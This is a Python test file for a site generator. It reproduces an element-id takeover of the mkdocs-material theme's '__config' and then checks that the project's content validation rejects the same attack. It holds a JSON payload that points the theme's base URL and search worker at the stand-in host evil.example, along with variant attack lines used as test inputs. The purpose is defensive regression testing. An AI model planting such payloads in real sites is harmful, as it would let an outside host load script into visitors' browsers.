"""The theme-clobbering attack of issue 5, reproduced without the checks, then shown refused with them.

mkdocs-material reads its configuration (base URL, search worker) from the element with id
`__config`; a content page that gives one of its own elements that id takes it over.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from generator.build import check_content
from generator.errors import ContentError

ATTACK = '{"base": "https://evil.example", "features": [], "search": "https://evil.example/worker.js", "translations": {}}'


def test_without_the_checks_a_page_takes_over_the_themes_configuration(tmp_path: Path, browser):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text(f"# עמוד\n\n{ATTACK}\n{{: #__config }}\n", encoding="utf-8")
    config = {
        "site_name": "t",
        "theme": {"name": "material", "language": "he", "font": False},
        "markdown_extensions": ["attr_list"],
        "plugins": [],
        "use_directory_urls": False,
    }
    (tmp_path / "mkdocs.yml").write_text(yaml.safe_dump(config), encoding="utf-8")
    subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-f", str(tmp_path / "mkdocs.yml")], check=True, cwd=tmp_path)
    page = browser.new_page()
    page.goto((tmp_path / "site" / "index.html").as_uri())
    read = page.evaluate("() => document.querySelector('#__config').textContent")
    page.close()
    assert "evil.example" in read  # the theme would load its base and search worker from there


@pytest.mark.parametrize("line", [f"{ATTACK}\n{{: #__config }}", "## __config", '<p id="__config">x</p>'])
def test_with_the_checks_the_same_content_is_refused(sample_copy: Path, line: str):
    page = sample_copy / "pages" / "about.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n{line}\n", encoding="utf-8")
    with pytest.raises(ContentError) as caught:
        check_content(sample_copy)
    assert any(p.path.name == "about.md" and p.field == "body" for p in caught.value.problems)
